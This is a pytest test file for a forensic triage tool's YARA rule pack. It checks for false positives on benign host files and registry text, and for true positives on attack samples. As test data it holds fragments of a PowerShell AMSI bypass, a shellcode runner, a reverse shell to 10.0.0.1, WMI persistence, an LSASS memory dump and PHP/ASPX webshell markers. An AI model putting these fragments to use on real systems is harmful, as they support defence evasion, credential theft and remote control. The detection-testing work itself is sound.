"""Precision of the pack on what a host holds: no high or critical YARA hit on any benign file that
make-host-tree can place on a host, and none on the benign Windows text that once made
Webshell_Known_Kits fire critical on a SYSTEM hive.

The files are scanned straight from the corpus, once per session, instead of building hosts: every
host of every seed is a selection from make-host-tree's own inventory of the corpus (its ``Corpus``
class, loaded from the script, with --extra-artifacts included), so scanning the whole inventory covers
every seed. Each file is scanned raw, as the bundle member it becomes, and the hives, event logs and
browser databases also decoded (their parsers' records through ``scan_records``), as the analysis does;
hive hits are then settled against the decoded ones exactly as in the analysis.
"""

from __future__ import annotations

import dataclasses
import shutil
import subprocess
from pathlib import Path

import pytest
from _host_tree_inventory import hive_logs, is_attack_set, load_make_host_tree, placeable_files

from triage.model import Issue, Source
from triage.parsers.base import input_from_file
from triage.scan.yara import YaraHit, YaraScanner, findings_from_hits, settle_hive_hits

RANKING = ("critical", "high")


def _decoded_records(corpus: Path, rel: str, kind: str, logs: dict[str, list[str]]) -> list:
    """The records triage's parser makes of one file (only the kinds whose records carry text the
    decoded scan reads: event fields, autostart commands, browser URLs)."""
    path = corpus / rel
    if kind == "evtx":
        from triage.parsers.evtx.parser import EvtxParser as parser
        item = input_from_file(path, rel)
    elif kind == "hive":
        from triage.parsers.registry.parser import RegistryParser as parser
        item = input_from_file(path, rel, companions=tuple(corpus / lg for lg in logs.get(rel, [])))
    elif kind == "browser":
        if path.name == "places.sqlite":
            from triage.parsers.browser.firefox import FirefoxHistoryParser as parser
            item = input_from_file(path, f"Users/u/AppData/Roaming/Mozilla/Firefox/Profiles/x/{path.name}")
        else:
            from triage.parsers.browser.chromium import ChromiumHistoryParser as parser
            item = input_from_file(path, "Users/u/AppData/Local/Google/Chrome/User Data/Default/History")
        item.entry = dataclasses.replace(item.entry, bundle_path=f"files/C/{rel}")
    else:
        return []
    return [r for r in parser().parse(item) if not isinstance(r, Issue)]


@dataclasses.dataclass
class Scanned:
    kinds: dict[str, set[str]]
    hits: list[YaraHit]
    issues: list[Issue]
    decoded_files: int


@pytest.fixture(scope="session")
def scanned(corpus) -> Scanned:
    """Every placeable file scanned raw and (hives, logs, browser databases) decoded, once."""
    inv = load_make_host_tree(corpus).Corpus(str(corpus))
    kinds, logs = placeable_files(inv), hive_logs(inv)
    files = sorted(set().union(*kinds.values()))
    scanner = YaraScanner()
    hits: list[YaraHit] = []
    issues: list[Issue] = []
    for item in scanner.scan_paths_parallel([corpus / rel for rel in files], jobs=2, root=corpus):
        if isinstance(item, YaraHit):  # the same member name the decoded records carry
            item = dataclasses.replace(item, source=Source(bundle_path=f"files/C/{item.source.bundle_path}"))
            hits.append(item)
        else:
            issues.append(item)
    decoded = 0
    for kind in ("evtx", "hive", "browser"):
        for rel in sorted(kinds[kind]):
            records = _decoded_records(corpus, rel, kind, logs)
            decoded += 1
            for item in scanner.scan_records(records):
                (hits if isinstance(item, YaraHit) else issues).append(item)
    return Scanned(kinds=kinds, hits=settle_hive_hits(hits), issues=issues, decoded_files=decoded)


def _rel(hit: YaraHit) -> str:
    return hit.source.bundle_path.removeprefix("files/C/")


def test_the_inventory_is_make_host_trees_whole_corpus_selection(scanned, corpus):
    kinds = scanned.kinds
    for kind in ("evtx", "hive", "hive-log", "prefetch", "browser", "pe", "srum", "timeline", "defender",
                 "lnk", "jumplist", "setupapi"):
        assert kinds[kind], f"make-host-tree places no {kind} file any more"
    every = set().union(*kinds.values())
    assert len(every) > 250
    assert not any(part in ("corrupted", "truncated") for rel in every for part in rel.split("/"))
    assert {r.split("/")[0] for r in every if is_attack_set(r)} >= {"evtx", "defender", "srum"}
    assert "registry/win10-dirty-system/SYSTEM" in kinds["hive"]
    assert "registry/win10-dirty-system/SYSTEM.LOG1" in kinds["hive-log"]
    assert scanned.decoded_files >= len(kinds["evtx"]) + len(kinds["hive"])


def test_no_high_or_critical_hit_on_any_benign_placeable_file(scanned):
    benign = [h for h in scanned.hits if not is_attack_set(_rel(h))]
    ranking = [h for h in benign if h.severity in RANKING]
    assert ranking == [], [(h.rule, h.severity, h.target, h.field, h.source.bundle_path, h.strings[:2])
                           for h in ranking]
    findings = findings_from_hits(benign)
    assert [f for f in findings if f.severity in RANKING] == []
    assert all(i.severity != "error" for i in scanned.issues), [i for i in scanned.issues if i.severity == "error"]


def test_the_same_scan_sees_the_attack_sets_critical(scanned):
    """The scan can fail: the APTSimulator sets it leaves out above give critical hits, raw (Sysmon
    log, Defender MPLog) and decoded (command lines)."""
    attack = [h for h in scanned.hits if is_attack_set(_rel(h)) and h.severity == "critical"]
    assert {h.rule for h in attack} >= {"CredTheft_Mimikatz_Commands"}
    assert {h.target for h in attack} == {"file", "decoded"}
    assert any(_rel(h).startswith("defender/") for h in attack)


# --- the benign Windows text of the fleet issue, in a real hive --------------------------------------

COM_NAME = "IVsSharedMSBuildFilesManagerHierarchy"


@pytest.fixture(scope="session")
def visual_studio_system_hive(corpus, tmp_path_factory) -> Path:
    """A real SYSTEM hive (the corpus's Windows 7 one) with the Visual Studio COM interface name as
    registry text, written with hivexregedit the way Windows stores it (UTF-16LE value data)."""
    if not shutil.which("hivexregedit"):
        pytest.fail("hivexregedit is required (apt-get install libhivex-bin libwin-hivex-perl)")
    d = tmp_path_factory.mktemp("vs-hive")
    hive = d / "SYSTEM"
    shutil.copyfile(corpus / "registry/win7-wks-win732bita/SYSTEM", hive)
    hive.chmod(0o644)
    key = r"HKEY_LOCAL_MACHINE\SYSTEM\Interface"
    reg = (f"Windows Registry Editor Version 5.00\n\n[{key}]\n\n"
           f"[{key}\\{{A3E0A2B8-1D5C-4E4C-9B39-2F5E8A1C7D41}}]\n@=\"{COM_NAME}\"\n")
    (d / "vs.reg").write_text(reg)
    subprocess.run(["hivexregedit", "--merge", "--prefix", r"HKEY_LOCAL_MACHINE\SYSTEM", str(hive),
                    str(d / "vs.reg")], check=True, capture_output=True)
    return hive


def test_files_manager_interface_name_is_not_a_webshell(visual_studio_system_hive):
    data = visual_studio_system_hive.read_bytes()
    assert "FilesMan".encode("utf-16-le") in data  # the text that made the old rule fire
    scanner = YaraScanner()
    src = Source(bundle_path="files/C/Windows/System32/config/SYSTEM")
    hits = [h for h in scanner.scan_bytes(data, src) if isinstance(h, YaraHit)]
    assert [h.rule for h in hits if h.rule == "Webshell_Known_Kits"] == []
    # the same name in a script or a log (not a hive) does not fire either
    text = f"Registered {COM_NAME} for the FilesManager view".encode("utf-16-le")
    assert not [h for h in scanner.scan_bytes(text, Source(bundle_path="files/C/x.evtx"))
                if isinstance(h, YaraHit)]


@pytest.mark.parametrize("shell", [
    b"<?php $default_action = 'FilesMan'; ?>",
    b'<?php if(empty($_POST["a"])) $_POST["a"] = "FilesMan"; ?>',
    b"<?php function actionFilesMan() { echo 1; } ?>",
    b"<?php define('WSO_VERSION', '2.5'); ?>",
    b"<title>c99shell v. 1.0</title>",
])
def test_webshell_kits_still_fire_on_their_own_text(shell):
    hits = {h.rule for h in YaraScanner().scan_bytes(shell, Source(bundle_path="files/C/inetpub/wwwroot/a.php"))
            if isinstance(h, YaraHit)}
    assert "Webshell_Known_Kits" in hits


# --- rules that combine several strings: one script's worth apart, not anywhere in a raw log ----------

SPREAD = {
    "PS_Shellcode_Runner": ["$m = VirtualAlloc(0, $n, 0x3000, 0x40)",
                            "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p, $t)"],
    "PS_AMSI_Bypass": ["$t = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
                       "$f = $t.GetField($n,'NonPublic,Static')", "$n = 'amsiInitFailed'", "$f.SetValue($null,$true)"],
    "C2_Reverse_Shell_PowerShell": ["$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443)",
                                    "$s = $c.GetStream()", "Invoke-Expression $d"],
    "Persist_WMI_Event_Subscription": ["Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription",
                                       "Set-WmiInstance -Class __FilterToConsumerBinding"],
    "CredTheft_Lsass_Dump_PowerShell": ['[DllImport("dbghelp.dll")] static extern bool MiniDumpWriteDump(',
                                        "$p = Get-Process lsass"],
    "Webshell_ASPX_Command_Shell": ['<%@ Page Language="C#" %>', "new ProcessStartInfo(\"cmd.exe\")",
                                    'Request.Form["c"]'],
}


def _log_like(parts: list[str], gap_chars: int) -> bytes:
    """UTF-16LE texts separated by benign UTF-16 text, as records of one event log hold them."""
    filler = ("Windows PowerShell engine state changed. " * (gap_chars // 42 + 1))[:gap_chars]
    return b"ElfFile\x00" + b"\x00" * 4088 + (("\x00" + filler + "\x00").join(parts)).encode("utf-16-le")


@pytest.mark.parametrize("rule", sorted(SPREAD))
def test_strings_of_unrelated_records_do_not_combine(rule):
    scanner = YaraScanner()
    src = Source(bundle_path="files/C/Windows/System32/winevt/Logs/Microsoft-Windows-PowerShell%4Operational.evtx")
    near = {h.rule for h in scanner.scan_bytes(_log_like(SPREAD[rule], 200), src) if isinstance(h, YaraHit)}
    far = {h.rule for h in scanner.scan_bytes(_log_like(SPREAD[rule], 70_000), src) if isinstance(h, YaraHit)}
    assert rule in near and rule not in far
